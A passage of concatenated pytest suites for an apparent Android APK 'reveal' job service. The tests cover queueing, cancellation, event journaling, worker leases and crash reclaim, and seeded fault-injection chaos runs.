    def test_blocking_submit_times_out(self):
        server = RevealServer(workers=1, max_pending=1, autostart=False)
        server.submit(_job("only"))
        with pytest.raises(QueueFull):
            server.submit(_job("never"), block=True, timeout=0.05)
        server.close(drain=False)

    def test_max_pending_must_be_positive(self):
        with pytest.raises(ValueError):
            RevealServer(workers=1, max_pending=0)


class TestCancellation:
    def test_cancel_queued_job_never_runs(self):
        ran = []

        def tracking_drive(driver):
            ran.append(True)
            return driver.run_standard_session()

        server = RevealServer(workers=1, autostart=False)
        handle = server.submit(RevealJob(
            "doomed", build_simple_apk("srv.doomed"), drive=tracking_drive))
        assert server.cancel(handle.job_id)
        server.start()
        server.close()
        assert ran == []
        assert handle.state == JobState.CANCELLED
        assert handle.outcome is None
        assert handle.wait(timeout=1) is None
        assert _lifecycle_kinds(server, handle.job_id) == \
            ["submitted", "cancelled"]

    def test_cancel_terminal_or_unknown_is_false(self):
        with RevealServer(workers=1) as server:
            handle = server.submit(_job("done"))
            handle.wait(timeout=30)
            assert not server.cancel(handle.job_id)
            assert not server.cancel("no-such-job")

    def test_close_without_drain_cancels_queue(self):
        server = RevealServer(workers=1, autostart=False)
        handles = [server.submit(_job(f"q{i}")) for i in range(3)]
        server.close(drain=False)
        assert all(h.state == JobState.CANCELLED for h in handles)


class TestEventStream:
    WORKER_COUNTS = (1, 4)

    @pytest.mark.parametrize("workers", WORKER_COUNTS)
    def test_per_job_lifecycle_order_at_any_worker_count(self, workers):
        server = RevealServer(workers=workers)
        handles = server.submit_all([_job(f"evt{i}") for i in range(8)])
        server.await_all(handles)
        server.close()
        for handle in handles:
            kinds = _lifecycle_kinds(server, handle.job_id)
            assert kinds[0] == "submitted"
            assert kinds[1] == "started"
            assert kinds[-1] == "done"
            # Stage events happen strictly between started and done.
            assert all(k == EVENT_STAGE for k in kinds[2:-1])
            # The pipeline's four stages each notified exactly once.
            stages = [e.payload["stage"]
                      for e in server.bus.events_for(handle.job_id)
                      if e.kind == EVENT_STAGE]
            assert stages == ["collect", "reassemble", "verify", "repack"]

    def test_events_iterator_sees_the_run(self):
        server = RevealServer(workers=2)
        stream = server.events()
        handles = server.submit_all([_job(f"it{i}") for i in range(3)])
        server.await_all(handles)
        server.close()  # closes the bus -> iteration ends
        kinds = [e.kind for e in stream]
        assert kinds.count("done") == 3
        seqs = [e.seq for e in server.bus.history]
        assert seqs == sorted(seqs)

    def test_cache_hit_emits_cache_event_not_stages(self):
        service = BatchRevealService(workers=1)
        apk = build_simple_apk("srv.cachehit")
        with RevealServer(service=service) as server:
            first = server.submit(RevealJob("cold", apk))
            first.wait(timeout=30)
            second = server.submit(RevealJob("warm", apk))
            outcome = second.wait(timeout=30)
        assert outcome.cache_hit and outcome.app_id == "warm"
        kinds = _lifecycle_kinds(server, second.job_id)
        assert kinds == ["submitted", "started", EVENT_CACHE_HIT, "done"]

    def test_exploration_waves_reach_the_stream(self):
        # An app with one-sided gates, so force execution has UCBs to
        # replay and the scheduler emits wave snapshots.
        from repro.dex import assemble
        from repro.runtime import Apk

        gated = Apk("srv.waves", "Lsrv/Gated;", [assemble("""
.class public Lsrv/Gated;
.super Landroid/app/Activity;
.field public static a:I = 0

.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 0
    if-nez v0, :locked
    :next
    return-void
    :locked
    sget v1, Lsrv/Gated;->a:I
    add-int/lit8 v1, v1, 1
    sput v1, Lsrv/Gated;->a:I
    goto :next
.end method
""")])
        service = BatchRevealService(workers=1, use_force_execution=True)
        with RevealServer(service=service) as server:
            handle = server.submit(RevealJob("waves", gated))
            outcome = handle.wait(timeout=60)
        assert outcome.status == "ok"
        waves = [e for e in server.bus.events_for(handle.job_id)
                 if e.kind == EVENT_WAVE]
        assert waves  # force execution replayed at least one wave
        assert all(w.payload["wave_size"] >= 1 for w in waves)
        explored = [w.payload["paths_explored"] for w in waves]
        assert explored == sorted(explored)


class TestJobStorePersistence:
    def test_restarted_server_completes_owed_jobs(self, tmp_path):
        store_dir = str(tmp_path / "queue")
        dead = RevealServer(workers=2, store=store_dir, autostart=False)
        handles = [dead.submit(_job(f"owed{i}")) for i in range(3)]
        job_ids = [h.job_id for h in handles]
        del dead  # killed before ever starting its workers

        with RevealServer(workers=2, store=store_dir) as server:
            outcomes = server.await_all()
        assert len(outcomes) == 3
        assert all(o.status == "ok" for o in outcomes)
        records = {r["job_id"]: r for r in JobStore(store_dir).load_all()}
        assert sorted(records) == sorted(job_ids)
        assert all(r["state"] == JobState.DONE for r in records.values())

    def test_interrupted_running_job_requeues(self, tmp_path):
        store_dir = str(tmp_path / "queue")
        store = JobStore(store_dir)
        record = store.make_record(
            job_id="mid-flight", app_id="app",
            apk=build_simple_apk("srv.midflight"))
        record["state"] = JobState.RUNNING  # its server died mid-job
        store.save(record)
        with RevealServer(workers=1, store=store_dir) as server:
            outcome = server.await_job("mid-flight", timeout=30)
        assert outcome is not None and outcome.status == "ok"
        assert store.load("mid-flight")["state"] == JobState.DONE

    def test_store_journals_events(self, tmp_path):
        store_dir = str(tmp_path / "queue")
        with RevealServer(workers=1, store=store_dir) as server:
            handle = server.submit(_job("journal"))
            handle.wait(timeout=30)
        kinds = [e["kind"] for e in JobStore(store_dir).events()]
        assert kinds[0] == "submitted" and kinds[-1] == "done"

    def test_corrupt_record_skipped_on_resume(self, tmp_path):
        store_dir = str(tmp_path / "queue")
        store = JobStore(store_dir)
        store.save(store.make_record(job_id="good", app_id="good",
                                     apk=build_simple_apk("srv.good")))
        bad = store.make_record(job_id="bad", app_id="bad",
                                apk=build_simple_apk("srv.bad2"))
        bad["apk_b64"] = "%%% not base64 %%%"
        store.save(bad)
        with RevealServer(workers=1, store=store_dir) as server:
            outcome = server.await_job("good", timeout=30)
            assert outcome is not None and outcome.status == "ok"
            with pytest.raises(KeyError):
                server.poll("bad")

    def test_device_override_survives_restart(self, tmp_path):
        # A resumed job must run under the device it was submitted
        # with, not the service default (device state feeds sources).
        import dataclasses

        from repro.runtime import NEXUS_5X

        custom = dataclasses.replace(NEXUS_5X, imei="424242424242424")
        store_dir = str(tmp_path / "queue")
        dead = RevealServer(workers=1, store=store_dir, autostart=False)
        dead.submit(RevealJob("dev", build_simple_apk("srv.devjob"),
                              device=custom), job_id="dev-job")
        del dead

        with RevealServer(workers=1, store=store_dir) as server:
            assert server.await_job("dev-job", timeout=30).status == "ok"
            # The adopted job carried the full custom profile.
            record = JobStore(store_dir).load("dev-job")
        assert record["device"]["imei"] == "424242424242424"

    def test_undecodable_record_not_counted_as_adopted(self, tmp_path):
        # A lingering serve loop must not spin forever on a record it
        # can never run; it is failed in the journal instead.
        store_dir = str(tmp_path / "queue")
        store = JobStore(store_dir)
        bad = store.make_record(job_id="garbled", app_id="x",
                                apk=build_simple_apk("srv.garbled"))
        bad["apk_b64"] = "%%% not base64 %%%"
        store.save(bad)
        with RevealServer(workers=1, store=store_dir) as server:
            assert server.sync_store() == 0
        assert store.load("garbled")["state"] == JobState.FAILED

    def test_journal_failure_does_not_strand_waiters(self, tmp_path):
        # A store that starts failing mid-run must not kill the worker
        # or leave handle.wait() blocking forever.
        store_dir = str(tmp_path / "queue")
        server = RevealServer(workers=1, store=store_dir, autostart=False)
        handle = server.submit(_job("diskfull"))

        def broken_update(job_id, **fields):
            raise OSError("disk full")

        server.store.update = broken_update
        server.start()
        outcome = handle.wait(timeout=30)
        server.close()
        assert outcome is not None and outcome.status == "ok"
        assert handle.state == JobState.DONE

    def test_precomputed_cache_key_is_used(self):
        service = BatchRevealService(workers=1)
        calls = []
        original = service.job_cache_key

        def counting(job):
            calls.append(job.app_id)
            return original(job)

        service.job_cache_key = counting
        with RevealServer(service=service) as server:
            job = _job("prekey")
            key = original(job)
            handle = server.submit(job, cache_key=key)
            outcome = handle.wait(timeout=30)
        assert outcome.status == "ok" and outcome.cache_key == key
        assert calls == []  # the hint made the worker skip re-hashing

    def test_cancelled_job_persists_cancelled(self, tmp_path):
        store_dir = str(tmp_path / "queue")
        server = RevealServer(workers=1, store=store_dir, autostart=False)
        handle = server.submit(_job("nixed"))
        server.cancel(handle.job_id)
        server.close()
        record = JobStore(store_dir).load(handle.job_id)
        assert record["state"] == JobState.CANCELLED


class TestServiceFacade:
    def test_reveal_batch_routes_through_server(self):
        service = BatchRevealService(workers=3)
        jobs = [_job(f"fac{i}") for i in range(5)]
        report = service.reveal_batch(jobs)
        assert [o.app_id for o in report.outcomes] == \
            [f"fac{i}" for i in range(5)]
        assert all(o.status == "ok" for o in report.outcomes)
        # Queue-latency surfaced end to end.
        assert report.summary()["p95_queue_wait_s"] >= 0
        assert all(o.to_summary()["queue_wait_s"] >= 0
                   for o in report.outcomes)

    def test_submit_all_await_all_against_shared_server(self):
        service = BatchRevealService(workers=2)
        with service.server() as server:
            high = service.submit_all([_job("hi")], server,
                                      priority=PRIORITY_HIGH)
            low = service.submit_all([_job("lo")], server,
                                     priority=PRIORITY_LOW)
            outcomes = service.await_all(high + low)
        assert [o.app_id for o in outcomes] == ["hi", "lo"]

    def test_empty_batch(self):
        report = BatchRevealService(workers=2).reveal_batch([])
        assert report.total == 0

    def test_concurrent_same_key_jobs_run_one_pipeline(self):
        # Intra-batch dedup through RevealCache.get_or_compute: the
        # same bytes submitted twice runs the pipeline once.
        service = BatchRevealService(workers=4)
        apk = build_simple_apk("srv.samekey")
        report = service.reveal_batch(
            [RevealJob("alias-a", apk), RevealJob("alias-b", apk)])
        statuses = sorted((o.app_id, o.cache_hit) for o in report.outcomes)
        assert [s for s, _ in statuses] == ["alias-a", "alias-b"]
        assert sorted(hit for _, hit in statuses) == [False, True]


class TestWaitIdle:
    def test_wait_idle_when_empty(self):
        with RevealServer(workers=1) as server:
            assert server.wait_idle(timeout=1)

    def test_wait_idle_times_out_with_paused_queue(self):
        server = RevealServer(workers=1, autostart=False)
        server.submit(_job("stuck"))
        assert not server.wait_idle(timeout=0.05)
        server.close()  # drains: close starts the pool for owed jobs

    def test_close_is_idempotent(self):
        server = RevealServer(workers=1)
        server.close()
        server.close()

    def test_status_counts(self):
        with RevealServer(workers=2) as server:
            handles = server.submit_all([_job(f"sc{i}") for i in range(3)])
            server.await_all(handles)
            counts = server.status_counts()
        assert counts[JobState.DONE] == 3
        assert counts[JobState.QUEUED] == 0


class TestJobStoreEventLog:
    def test_events_sorted_by_seq(self, tmp_path):
        store = JobStore(str(tmp_path))
        # Simulate observer-interleaved appends: seq 1 lands before 0.
        store.append_event({"kind": "started", "job_id": "a", "seq": 1})
        store.append_event({"kind": "submitted", "job_id": "a", "seq": 0})
        assert [e["seq"] for e in store.events()] == [0, 1]

    def test_tail_events_is_incremental(self, tmp_path):
        store = JobStore(str(tmp_path))
        store.append_event({"kind": "submitted", "job_id": "a", "seq": 0})
        events, offset = store.tail_events(0)
        assert [e["seq"] for e in events] == [0]
        # Idle poll: nothing new, offset unchanged.
        again, offset2 = store.tail_events(offset)
        assert again == [] and offset2 == offset
        store.append_event({"kind": "done", "job_id": "a", "seq": 1})
        fresh, _ = store.tail_events(offset)
        assert [e["seq"] for e in fresh] == [1]

    def test_tail_events_leaves_torn_tail_unconsumed(self, tmp_path):
        store = JobStore(str(tmp_path))
        store.append_event({"kind": "submitted", "job_id": "a", "seq": 0})
        with open(store.events_path, "a", encoding="utf-8") as fh:
            fh.write('{"kind": "done", "job_id": "a"')  # no newline: torn
        events, offset = store.tail_events(0)
        assert len(events) == 1
        # Completing the line makes it visible from the saved offset.
        with open(store.events_path, "a", encoding="utf-8") as fh:
            fh.write(', "seq": 1}\n')
        fresh, _ = store.tail_events(offset)
        assert [e["seq"] for e in fresh] == [1]

    def test_terminal_jobs_release_their_apks(self):
        with RevealServer(workers=1) as server:
            handle = server.submit(_job("released"))
            handle.wait(timeout=30)
            cancelled = server.submit(_job("nixed2"), priority="low")
            # Freeze the queue momentarily? Not needed: cancel may race
            # the worker; only assert on the job that actually cancelled.
            if server.cancel(cancelled.job_id):
                assert cancelled.job_id not in server._jobs
            assert handle.job_id not in server._jobs


class TestLingeringRetention:
    def test_keep_results_false_strips_heavy_payloads(self):
        with RevealServer(workers=1, keep_results=False) as server:
            handle = server.submit(_job("slim"))
            outcome = handle.wait(timeout=30)
        assert outcome.status == "ok"
        assert outcome.result is None
        assert outcome.revealed_apk_bytes is None
        # The summary (what a journal/status consumer reads) survives.
        assert outcome.to_summary()["status"] == "ok"

    def test_default_keeps_the_result(self):
        with RevealServer(workers=1) as server:
            handle = server.submit(_job("full"))
            outcome = handle.wait(timeout=30)
        assert outcome.revealed_apk is not None


class TestJournalAcrossRestarts:
    def test_watch_order_survives_seq_restart(self, tmp_path):
        # Two server processes journal seq 0.. each; the read path must
        # not splice the second run into the middle of the first.
        store = JobStore(str(tmp_path))
        store.append_event({"kind": "submitted", "job_id": "a",
                            "seq": 0, "timestamp": 100.0})
        store.append_event({"kind": "done", "job_id": "a",
                            "seq": 5, "timestamp": 101.0})
        # Restarted server: seq resets to 0, but time moves forward.
        store.append_event({"kind": "submitted", "job_id": "b",
                            "seq": 0, "timestamp": 200.0})
        store.append_event({"kind": "done", "job_id": "b",
                            "seq": 1, "timestamp": 201.0})
        kinds = [(e["job_id"], e["kind"]) for e in store.events()]
        assert kinds == [("a", "submitted"), ("a", "done"),
                         ("b", "submitted"), ("b", "done")]
