"""RevealWorker: fleet draining, crash reclaim, exactly-once, artifacts."""

import threading
import time

from repro.service import (
    ARTIFACT_COLLECTION,
    ARTIFACT_REVEALED_APK,
    ARTIFACT_REVEALED_DEX,
    EVENT_CANCELLED,
    EVENT_DONE,
    EVENT_STARTED,
    STATUS_OK,
    ArtifactStore,
    JobState,
    JobStore,
    RevealWorker,
)
from repro.service.batch import BatchRevealService, RevealJob

from tests.conftest import build_simple_apk


def _store(tmp_path) -> JobStore:
    return JobStore(str(tmp_path / "store"))


def _queue(store, job_id, package=None, **kwargs):
    record = store.make_record(
        job_id=job_id, app_id=f"app.{job_id}",
        apk=build_simple_apk(package or f"worker.{job_id}"),
        **kwargs,
    )
    store.save(record)
    return record


class TestDrain:
    def test_worker_drains_store_and_records_outcomes(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        _queue(store, "j2")
        worker = RevealWorker(store, worker_id="w1", workers=1)
        report = worker.run(max_jobs=10)
        assert report.processed == 2
        assert report.done == 2
        assert report.failed == 0
        assert sorted(report.job_ids) == ["j1", "j2"]
        for job_id in ("j1", "j2"):
            record = store.load(job_id)
            assert record["state"] == JobState.DONE
            assert record["worker_id"] == "w1"
            assert record["lease"] is None
            assert record["outcome"]["status"] == STATUS_OK

    def test_artifacts_stored_content_addressed(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        worker = RevealWorker(store, worker_id="w1", workers=1)
        worker.run(max_jobs=1)
        record = store.load("j1")
        artifacts = record["artifacts"]
        assert set(artifacts) == {ARTIFACT_REVEALED_APK,
                                  ARTIFACT_REVEALED_DEX,
                                  ARTIFACT_COLLECTION}
        # Default artifact location is <store>/artifacts — where the
        # gateway serves from.
        served = ArtifactStore(str(tmp_path / "store" / "artifacts"),
                               create=False)
        for digest in artifacts.values():
            assert served.get(digest)

    def test_worker_output_matches_in_process_reveal(self, tmp_path):
        store = _store(tmp_path)
        apk = build_simple_apk("worker.parity")
        record = store.make_record(job_id="j1", app_id="parity", apk=apk)
        store.save(record)
        worker = RevealWorker(store, worker_id="w1", workers=1)
        worker.run(max_jobs=1)
        digest = store.load("j1")["artifacts"][ARTIFACT_REVEALED_APK]
        remote_bytes = worker.artifacts.get(digest)
        local = BatchRevealService(workers=1).reveal_one(
            RevealJob(app_id="parity", apk=build_simple_apk("worker.parity")))
        assert local.status == STATUS_OK
        assert remote_bytes == local.revealed_apk.to_bytes()

    def test_unreadable_record_fails_cleanly(self, tmp_path):
        store = _store(tmp_path)
        record = _queue(store, "corrupt")
        store.update("corrupt", apk_b64="!!! not base64 !!!")
        worker = RevealWorker(store, worker_id="w1", workers=1)
        report = worker.run(max_jobs=1)
        assert report.failed == 1
        record = store.load("corrupt")
        assert record["state"] == JobState.FAILED
        assert record["error"] == "unreadable job record"

    def test_events_journalled_with_worker_identity(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        RevealWorker(store, worker_id="w-events", workers=1).run(max_jobs=1)
        events, _offset = store.tail_events()
        kinds = [e["kind"] for e in events]
        assert EVENT_STARTED in kinds and EVENT_DONE in kinds
        done = next(e for e in events if e["kind"] == EVENT_DONE)
        assert done["payload"]["worker_id"] == "w-events"
        assert ARTIFACT_REVEALED_APK in done["payload"]["artifacts"]


class TestFleet:
    def test_two_workers_split_queue_exactly_once(self, tmp_path):
        store = _store(tmp_path)
        for i in range(4):
            _queue(store, f"j{i}")
        workers = [RevealWorker(store, worker_id=f"w{i}", workers=1)
                   for i in range(2)]
        reports = [None, None]

        def drain(i):
            reports[i] = workers[i].run(max_jobs=4, linger_s=1.0)

        threads = [threading.Thread(target=drain, args=(i,))
                   for i in range(2)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        all_ids = reports[0].job_ids + reports[1].job_ids
        assert sorted(all_ids) == [f"j{i}" for i in range(4)]
        assert len(set(all_ids)) == 4  # no job ran on both workers
        assert reports[0].done + reports[1].done == 4

    def test_crashed_worker_job_reclaimed_exactly_once(self, tmp_path):
        # A worker claims a job and dies (never heartbeats, never
        # completes).  Once its lease expires, a live worker reclaims
        # and completes; the dead worker's late completion is fenced.
        store = _store(tmp_path)
        _queue(store, "j1")
        dead = store.claim_next("w-dead", lease_ttl_s=0.15)
        worker = RevealWorker(store, worker_id="w-live", workers=1,
                              poll_interval_s=0.05)
        report = worker.run(max_jobs=1, linger_s=5.0)
        assert report.done == 1
        record = store.load("j1")
        assert record["state"] == JobState.DONE
        assert record["worker_id"] == "w-live"
        assert record["attempts"] == 2
        # The dead worker finally "returns" — and cannot overwrite.
        assert not store.complete_leased("j1", dead["lease_seq"],
                                        state=JobState.FAILED,
                                        error="late crash report")
        assert store.load("j1")["state"] == JobState.DONE

    def test_cancel_on_reclaimed_record_skips_the_pipeline(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        store.claim_next("w-dead", lease_ttl_s=0.1)
        assert store.request_cancel("j1") == "requested"
        time.sleep(0.15)
        worker = RevealWorker(store, worker_id="w-live", workers=1,
                              poll_interval_s=0.05)
        start = time.monotonic()
        report = worker.run(max_jobs=1, linger_s=2.0)
        assert report.cancelled == 1
        record = store.load("j1")
        assert record["state"] == JobState.CANCELLED
        # The reveal pipeline never ran: the cancel resolved quickly
        # and produced no artifacts.
        assert record["artifacts"] == {}
        assert time.monotonic() - start < 5.0
        events, _ = store.tail_events()
        assert any(e["kind"] == EVENT_CANCELLED and
                   e["payload"].get("worker_id") == "w-live"
                   for e in events)

    def test_stop_ends_linger_early(self, tmp_path):
        store = _store(tmp_path)
        worker = RevealWorker(store, worker_id="w1", workers=1,
                              poll_interval_s=0.05)
        timer = threading.Timer(0.2, worker.stop)
        timer.start()
        start = time.monotonic()
        report = worker.run(linger_s=60.0)
        timer.cancel()
        assert report.processed == 0
        assert time.monotonic() - start < 30.0
