"""Chaos suite: seeded fault schedules against a gateway + worker
fleet.

Each schedule arms one deterministic :class:`FaultPlan` (reproducible
from its printed seed) while real jobs flow submit → claim → reveal →
complete, then asserts the two invariants the fleet promises no matter
what the schedule did:

* **exactly-once completion** — every job lands terminal ``done``
  exactly once (one ``.done`` token, stamped with the winning lease
  generation), however many times its execution was retried;
* **byte-identical artifacts** — the revealed APK served by the
  gateway equals a fault-free in-process reveal of the same input.

Schedules span the three fault families the injection sites group
into: store I/O (torn writes, truncated appends, failed replaces),
network (HTTP 500s, connection resets, delays), and worker death
(``os._exit`` mid-claim / mid-heartbeat / mid-complete, in a real
child process).  On any assertion failure the full schedule —
including its seed — is printed so the run can be replayed.
"""

import multiprocessing
import os
import threading

import pytest

from repro import faults
from repro.faults import (
    FAULT_DELAY,
    FAULT_KILL,
    KILL_EXIT_CODE,
    NETWORK_SITES,
    STORE_SITES,
    FaultPlan,
    FaultRule,
)
from repro.service import (
    ARTIFACT_REVEALED_APK,
    STATUS_OK,
    BatchRevealService,
    GatewayClient,
    JobState,
    JobStore,
    RevealGateway,
    RevealJob,
    RevealWorker,
    artifact_digest,
)
from repro.service.retry import RetryPolicy

from tests.conftest import build_simple_apk

#: One fleet run's job mix.  Packages are deterministic inputs, so the
#: fault-free baseline bytes are computed once for the whole module.
APPS = ("alpha", "beta", "gamma")

#: Generous-but-bounded client/worker retry for chaos runs: seeded
#: rules stack at most three consecutive faults on one site (windows
#: span hits 0..2), so six attempts always converge.
CHAOS_RETRY = RetryPolicy(attempts=6, base_delay_s=0.01, max_delay_s=0.25)

SITE_POOLS = {
    "store": STORE_SITES,
    "network": NETWORK_SITES,
    "mixed": STORE_SITES + NETWORK_SITES,
}

#: The seeded schedules: (name, seed, site pool, rule count).
THREAD_SCHEDULES = [
    ("store-a", 42, "store", 6),
    ("store-b", 1337, "store", 6),
    ("network-a", 7, "network", 6),
    ("network-b", 99, "network", 6),
    ("mixed-a", 5, "mixed", 8),
    ("mixed-b", 2718, "mixed", 8),
]

#: Worker-death schedules, run in a forked child so ``os._exit`` kills
#: a real process mid-protocol and the survivors must reclaim.
KILL_SCHEDULES = [
    ("kill-mid-claim", 11,
     [FaultRule("worker.claim", FAULT_KILL, after=1)]),
    ("kill-mid-complete", 12,
     [FaultRule("worker.complete", FAULT_KILL, after=0)]),
    # A fast reveal can finish before the first beat, so the schedule
    # stretches execution with delays on the stage-event appends
    # (which fire mid-reveal, while the beat thread is live).
    ("kill-mid-heartbeat", 13,
     [FaultRule("jobstore.events.append", FAULT_DELAY,
                delay_s=0.3, times=4, after=1),
      FaultRule("worker.heartbeat", FAULT_KILL, after=0)]),
]


@pytest.fixture(autouse=True)
def _always_disarmed():
    yield
    faults.disarm()


@pytest.fixture(scope="module")
def baseline():
    """Fault-free reference bytes per app, from an in-process reveal."""
    service = BatchRevealService(workers=1)
    reference = {}
    for app in APPS:
        outcome = service.reveal_one(
            RevealJob(app_id=app, apk=build_simple_apk(f"chaos.{app}")))
        assert outcome.status == STATUS_OK
        reference[app] = outcome.revealed_apk.to_bytes()
    return reference


def _submit_all(client: GatewayClient) -> list:
    return [client.submit(RevealJob(app_id=app,
                                    apk=build_simple_apk(f"chaos.{app}")))
            for app in APPS]


def _run_fleet(store: JobStore, *, lease_ttl_s: float = 1.0,
               linger_s: float = 4.0) -> list:
    """Two thread workers draining the store concurrently."""
    workers = [
        RevealWorker(store, worker_id=f"chaos-w{i}", workers=1,
                     poll_interval_s=0.05, lease_ttl_s=lease_ttl_s,
                     retry=CHAOS_RETRY)
        for i in range(2)
    ]
    reports = [None, None]

    def drain(i: int) -> None:
        reports[i] = workers[i].run(max_jobs=len(APPS) + 3,
                                    linger_s=linger_s)

    threads = [threading.Thread(target=drain, args=(i,)) for i in range(2)]
    for t in threads:
        t.start()
    return threads


def _assert_exactly_once_and_identical(store, client, handles,
                                       baseline, plan) -> None:
    """The two chaos invariants, with the schedule printed on failure."""
    try:
        for handle in handles:
            record = store.load(handle.job_id)
            assert record is not None, f"record lost: {handle.job_id}"
            assert record["state"] == JobState.DONE
            assert record["outcome"]["status"] == STATUS_OK
            assert int(record.get("attempts", 0)) >= 1
            # Exactly-once witness: the single .done token names the
            # lease generation whose completion landed.
            done_token = f"{handle.job_id}.done"
            assert os.path.exists(os.path.join(store.claims_dir,
                                               done_token))
            assert store._token_payload(done_token) == \
                str(record["lease_seq"])
            # Byte-identical artifacts, straight off the gateway.
            digest = record["artifacts"][ARTIFACT_REVEALED_APK]
            expected = baseline[handle.app_id]
            assert digest == artifact_digest(expected)
            assert client.fetch_artifact(digest) == expected
    except AssertionError:
        print("\nchaos schedule that failed (replay with this seed):\n"
              + plan.describe())
        raise


class TestSeededFaultSchedules:
    @pytest.mark.parametrize("name,seed,pool,count", THREAD_SCHEDULES)
    def test_fleet_completes_under_faults(self, tmp_path, baseline,
                                          name, seed, pool, count):
        plan = FaultPlan.seeded(seed, sites=SITE_POOLS[pool],
                                faults=count, name=f"chaos-{name}")
        store = JobStore(str(tmp_path / "store"))
        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url, poll_interval_s=0.05,
                                   retry=CHAOS_RETRY)
            with faults.armed(plan):
                handles = _submit_all(client)
                threads = _run_fleet(store)
                outcomes = client.await_many(handles, timeout=180)
                for t in threads:
                    t.join(timeout=120)
                assert not any(t.is_alive() for t in threads)
            try:
                assert [o.app_id for o in outcomes] == list(APPS)
                assert all(o.status == STATUS_OK for o in outcomes)
            except AssertionError:
                print("\nchaos schedule that failed "
                      "(replay with this seed):\n" + plan.describe())
                raise
            _assert_exactly_once_and_identical(store, client, handles,
                                               baseline, plan)


def _doomed_worker_main(store_path: str, plan_dict: dict,
                        lease_ttl_s: float) -> None:
    """Child-process entry: arm the kill schedule and work until it
    fires (``os._exit(KILL_EXIT_CODE)`` mid-protocol)."""
    faults.arm(FaultPlan.from_dict(plan_dict))
    worker = RevealWorker(store_path, worker_id="doomed", workers=1,
                          poll_interval_s=0.05, lease_ttl_s=lease_ttl_s,
                          retry=RetryPolicy(attempts=2,
                                            base_delay_s=0.01))
    worker.run(max_jobs=len(APPS) + 3, linger_s=1.0)


class TestWorkerKillSchedules:
    @pytest.mark.parametrize("name,seed,rules", KILL_SCHEDULES)
    def test_killed_worker_jobs_are_reclaimed(self, tmp_path, baseline,
                                              name, seed, rules):
        plan = FaultPlan(rules, seed=seed, name=f"chaos-{name}")
        store = JobStore(str(tmp_path / "store"))
        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url, poll_interval_s=0.05)
            handles = _submit_all(client)

        # The victim runs in a real child process so the injected
        # os._exit models a genuine crash: no finally blocks, no
        # lease release, no completion.
        ctx = multiprocessing.get_context("fork")
        victim = ctx.Process(target=_doomed_worker_main,
                             args=(store.path, plan.to_dict(), 0.5))
        victim.start()
        victim.join(timeout=120)
        assert victim.exitcode == KILL_EXIT_CODE, (
            f"kill fault never fired (exit {victim.exitcode});\n"
            + plan.describe())

        # A clean survivor reclaims whatever the victim left leased
        # (after its short TTL expires) and finishes the queue.
        survivor = RevealWorker(store, worker_id="survivor", workers=1,
                                poll_interval_s=0.05, lease_ttl_s=1.0)
        survivor.run(max_jobs=len(APPS) + 3, linger_s=4.0)

        with RevealGateway(store) as gateway:
            client = GatewayClient(gateway.url, poll_interval_s=0.05)
            _assert_exactly_once_and_identical(store, client, handles,
                                               baseline, plan)
