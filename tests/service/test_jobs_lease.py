"""JobStore worker leases: claims, heartbeats, fencing, exactly-once."""

import os
import threading
import time

import pytest

from repro import faults
from repro.faults import FAULT_OS_ERROR, FaultPlan, FaultRule
from repro.service import (
    HEARTBEAT_CANCELLED,
    HEARTBEAT_LOST,
    HEARTBEAT_OK,
    PRIORITY_HIGH,
    PRIORITY_LOW,
    PRIORITY_NORMAL,
    JobState,
    JobStore,
)

from tests.conftest import build_simple_apk


def _store(tmp_path) -> JobStore:
    return JobStore(str(tmp_path / "store"))


def _queue(store, job_id, priority=PRIORITY_NORMAL, submitted_at=None):
    record = store.make_record(
        job_id=job_id, app_id=f"app.{job_id}",
        apk=build_simple_apk(f"lease.{job_id}"),
        priority=priority, submitted_at=submitted_at,
    )
    store.save(record)
    return record


class TestClaim:
    def test_claim_stamps_running_with_lease(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        claimed = store.claim_next("w1", lease_ttl_s=30.0, now=100.0)
        assert claimed["state"] == JobState.RUNNING
        assert claimed["lease_seq"] == 1
        assert claimed["attempts"] == 1
        assert claimed["started_at"] == 100.0
        assert claimed["lease"]["worker_id"] == "w1"
        assert claimed["lease"]["expires_at"] == 130.0

    def test_claim_order_is_lane_then_age(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "old-low", PRIORITY_LOW, submitted_at=1.0)
        _queue(store, "new-high", PRIORITY_HIGH, submitted_at=9.0)
        _queue(store, "old-normal", PRIORITY_NORMAL, submitted_at=2.0)
        _queue(store, "new-normal", PRIORITY_NORMAL, submitted_at=8.0)
        order = [store.claim_next("w")["job_id"] for _ in range(4)]
        assert order == ["new-high", "old-normal", "new-normal", "old-low"]
        assert store.claim_next("w") is None

    def test_racing_workers_resolve_to_one_owner(self, tmp_path):
        store = _store(tmp_path)
        record = _queue(store, "contested")
        wins, barrier = [], threading.Barrier(4)

        def race(worker_id):
            barrier.wait()
            claimed = store.try_claim(record, worker_id)
            if claimed is not None:
                wins.append(worker_id)

        threads = [threading.Thread(target=race, args=(f"w{i}",))
                   for i in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert len(wins) == 1

    def test_running_without_lease_never_claimable(self, tmp_path):
        # A running record with no lease belongs to an in-process
        # RevealServer; the fleet must not steal it.
        store = _store(tmp_path)
        _queue(store, "served")
        store.update("served", state=JobState.RUNNING)
        assert store.claimable_records() == []
        assert store.claim_next("thief") is None

    def test_cancel_requested_queued_not_claimable(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "jq")
        store.update("jq", cancel_requested=True)
        assert store.claim_next("w") is None


class TestHeartbeat:
    def test_ok_heartbeat_extends_expiry(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        claimed = store.claim_next("w1", lease_ttl_s=10.0, now=100.0)
        assert store.heartbeat("j1", claimed["lease_seq"],
                               lease_ttl_s=10.0, now=105.0) == HEARTBEAT_OK
        assert store.load("j1")["lease"]["expires_at"] == 115.0

    def test_heartbeat_after_cancellation_says_cancelled(self, tmp_path):
        store = _store(tmp_path)
        _queue(store, "j1")
        claimed = store.claim_next("w1")
        assert store.request_cancel("j1") == "requested"
